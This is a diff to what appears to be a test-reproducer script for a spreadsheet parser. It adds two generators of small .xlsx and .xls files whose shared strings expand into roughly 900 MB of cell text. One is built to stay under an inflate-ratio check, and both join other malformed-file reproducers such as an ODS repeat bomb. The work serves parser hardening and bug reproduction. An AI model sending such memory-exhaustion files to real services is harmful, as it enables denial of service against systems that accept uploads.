@@ -9,7 +9,8 @@
         offset x 5 values, or every value at OFFSETS (0x4c,0x5d1,...);
         a few minutes on 2 cores
 
-Standard library only for the reproducers: the two genuine seed workbooks
+Standard library only for the reproducers (but xls_shared_string_amplified,
+which needs xlwt, and is skipped without it): the two genuine seed workbooks
 (seed.xls, seed.ods) are committed beside this script. Everything is
 deterministic (fixed seeds, fixed zip timestamps), nothing is fetched.
 
@@ -653,6 +654,38 @@ def scan(binary, out_tsv, offsets=None):
     print(f"{len(jobs)} runs; exit codes: {dict(sorted(counts.items(), key=str))}")
 
 
+def xlsx_shared_string_amplified(out):
+    """7.9 KB-class .xlsx: one 900,000-character shared string (the part
+    stays under the 1 MB below which the inflate ratio is not checked) in
+    the Student ID column of 1,000 rows: 900 MB of cell text, each cell its
+    own copy."""
+    shared = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n',
+              '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1001" uniqueCount="1">',
+              "<si><t>" + "x" * 900_000 + "</t></si></sst>"]
+    sheet = [SHEET_HEAD, inline_row(1, COHORT_HEADERS)]
+    sheet += [f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>' for r in range(2, 1002)]
+    sheet.append(SHEET_TAIL)
+    write_xlsx(out / "xlsx_shared_string_amplified.xlsx", sheet, shared_chunks=shared)
+
+
+def xls_shared_string_amplified(out):
+    """~400 KB .xls (xlwt; skipped when xlwt is not installed): one 32,767-character CJK shared string (98 KB
+    in UTF-8; the longest a BIFF8 string holds) in 10,000 cells of the
+    Student ID column: 980 MB of cell text, each cell calamine's own copy."""
+    try:
+        import xlwt
+    except ImportError:
+        print("xls_shared_string_amplified: skipped (pip install xlwt)")
+        return
+    book = xlwt.Workbook()
+    sheet = book.add_sheet("Year 2")
+    for c, header in enumerate(COHORT_HEADERS):
+        sheet.write(0, c, header)
+    for r in range(1, 10_001):
+        sheet.write(r, 0, "\u4e00" * 32_767)
+    book.save(str(out / "xls_shared_string_amplified.xls"))
+
+
 REPRODUCERS = [
     damaged_xls,
     ods_repeat_bomb,
@@ -663,6 +696,8 @@ REPRODUCERS = [
     escape_in_header,
     formula_without_value,
     nul_in_csv,
+    xlsx_shared_string_amplified,
+    xls_shared_string_amplified,
 ]
 
 
